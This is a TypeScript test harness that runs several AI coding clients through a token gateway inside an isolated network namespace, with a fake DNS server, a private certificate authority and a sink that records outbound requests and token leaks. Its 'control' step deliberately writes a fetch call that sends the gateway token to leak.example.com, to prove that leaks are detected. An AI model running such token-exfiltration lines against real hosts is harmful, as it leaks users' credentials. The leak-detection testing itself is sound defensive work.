/**
 * Runs inside a network namespace of its own, in which every name leads to a sink: sets the clients up with gate, runs
 * them, tears down, and prints what the gateway and the rest of the internet saw, as JSON.
 */
import { execFileSync } from 'node:child_process'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { type DevGateway, startDevGateway } from '@gate/dev-gateway'
import { addPi, runOnlinePi } from '../pi.ts'
import type { Finished } from '../run-process.ts'
import { type CallOptions, createHome, type ThrowawayHome } from '../throwaway-home.ts'
import { createCertificateAuthority } from './certificate-authority.ts'
import { startDnsServer } from './dns-server.ts'
import { type InternetSink, startInternetSink } from './internet-sink.ts'

const NAMESERVER = '127.0.0.1'
const INTERNET = '127.0.0.2'
const SYSTEM_CERTIFICATES = '/etc/ssl/certs/ca-certificates.crt'

const EXPECTED_HOSTS = [
  'ab.chatgpt.com',
  'api.anthropic.com',
  'api.github.com',
  'api.openai.com',
  'auth.openai.com',
  'chatgpt.com',
  'github.com',
  'models.opencode.ai',
  'registry.npmjs.org',
  'pi.dev',
]

/** One step of the story and what was seen while it ran. */
export interface CapturedStep {
  readonly name: string
  readonly code: number | null
  readonly stdout: string
  readonly stderr: string
  /** Requests to the gateway: method, path, and whether they carried the token. */
  readonly gateway: readonly string[]
  /** Requests to anybody else. */
  readonly elsewhere: readonly { request: string; carriesToken: boolean; carriesCredential: boolean }[]
  readonly refusedHandshakes: readonly string[]
  readonly abandonedHandshakes: readonly string[]
  /** Names that were looked up. */
  readonly names: readonly string[]
}

const CREDENTIAL = /"(authorization|proxy-authorization|x-api-key|api-key|cookie)"/i

async function main(): Promise<CapturedStep[]> {
  execFileSync('ip', ['link', 'set', 'lo', 'up'])
  const tokens = new Set<string>()
  const gateway = await startDevGateway({
    rewriteTokenResponse(body) {
      for (const name of ['access_token', 'refresh_token', 'id_token']) tokens.add(String(body[name]))
      return body
    },
  })
  const home = await createHome({ gateway })
  await addPi(home)
  try {
    return await tell(gateway, home, tokens)
  } finally {
    await gateway.stop()
    await home.remove()
  }
}

async function tell(gateway: DevGateway, home: ThrowawayHome, tokens: ReadonlySet<string>): Promise<CapturedStep[]> {
  const authority = await createCertificateAuthority(join(home.root, 'ca'))
  // Ready before anybody calls: a client that waits for a certificate to be made gives up, and nothing of it is seen.
  for (const host of EXPECTED_HOSTS) await authority.contextFor(host)
  const dns = await startDnsServer(NAMESERVER, INTERNET)
  const sink = await startInternetSink(INTERNET, authority)
  await home.write('etc/resolv.conf', `nameserver ${NAMESERVER}\n`)
  // A machine without ca-certificates trusts nobody else, which is fine here.
  const trusted = await readFile(SYSTEM_CERTIFICATES, 'utf8').catch(() => '')
  const certificates = `${trusted}\n${await readFile(authority.file, 'utf8')}`
  await home.write(join('etc', SYSTEM_CERTIFICATES.slice('/etc/'.length)), certificates)
  const options: CallOptions = {
    etc: join(home.root, 'etc'),
    env: { NODE_EXTRA_CA_CERTS: authority.file, SSL_CERT_FILE: authority.file },
  }
  const steps: CapturedStep[] = []
  const step = async (name: string, run: () => Promise<Finished>) => {
    gateway.clearRequests()
    sink.requests.length = 0
    sink.refusedHandshakes.length = 0
    sink.abandonedHandshakes.length = 0
    dns.names.length = 0
    const { code, stdout, stderr } = await run()
    await sink.settled()
    const seen = gateway.requests.map((request) => {
      const credential = tokens.has(request.bearer ?? '') ? 'with the token' : 'without the token'
      return `${request.method} ${request.path} ${credential}`
    })
    const names = [...new Set(dns.names)].sort()
    steps.push({
      name,
      code,
      stdout,
      stderr,
      gateway: seen,
      elsewhere: elsewhere(sink, tokens),
      refusedHandshakes: [...sink.refusedHandshakes],
      abandonedHandshakes: [...sink.abandonedHandshakes],
      names,
    })
  }

  await step('setup', () => home.gate(['setup', ...home.connection], options))
  await step('claude', () => home.claude([], options))
  await step('codex', () => home.codex([], options))
  // With its own look-ups, which the harness otherwise switches off.
  const talkative = { OPENCODE_DISABLE_MODELS_FETCH: '0', OPENCODE_DISABLE_AUTOUPDATE: '0' }
  await step('opencode', () => home.opencode([], { ...options, env: { ...options.env, ...talkative } }))
  await step('pi', () => runOnlinePi(home, [], options))
  // Shows that a leak would be seen: the token goes to a foreign host on purpose.
  await step('control', async () => {
    const { stdout } = await home.gate(['token'])
    const leak = `fetch('https://leak.example.com/x', { headers: { authorization: 'Bearer ${stdout.trim()}' } })`
    await home.write('leak.mjs', `await ${leak}\n`)
    return home.run(process.execPath, [join(home.root, 'leak.mjs')], options)
  })
  // Shows how clients look that refuse the certificate, or go before they have sent anything: openssl sends an alert, Node
  // closes the connection without a word.
  const { env: _trust, ...distrusting } = options
  const shout = ['s_client', '-connect', 'refused.example.com:443', '-verify_return_error', '-CApath', home.root]
  await step('distrust-aloud', () => home.run('openssl', shout, distrusting))
  await home.write('distrust.mjs', `await fetch('https://refused.example.com/x').catch(() => {})\n`)
  await step('distrust', () => home.run(process.execPath, [join(home.root, 'distrust.mjs')], distrusting))
  await step('gone', () => home.run(process.execPath, [join(import.meta.dirname, 'leave-handshakes.ts')], options))
  await step('teardown', () => home.gate(['teardown', '--all', '--purge'], options))
  await sink.stop()
  await dns.stop()
  return steps
}

function elsewhere(sink: InternetSink, tokens: ReadonlySet<string>): CapturedStep['elsewhere'] {
  return sink.requests.map(({ host, method, path, text }) => ({
    request: `${method} ${host}${path}`,
    carriesToken: [...tokens].some((token) => text.includes(token)),
    carriesCredential: CREDENTIAL.test(text),
  }))
}

process.stdout.write(JSON.stringify(await main()))
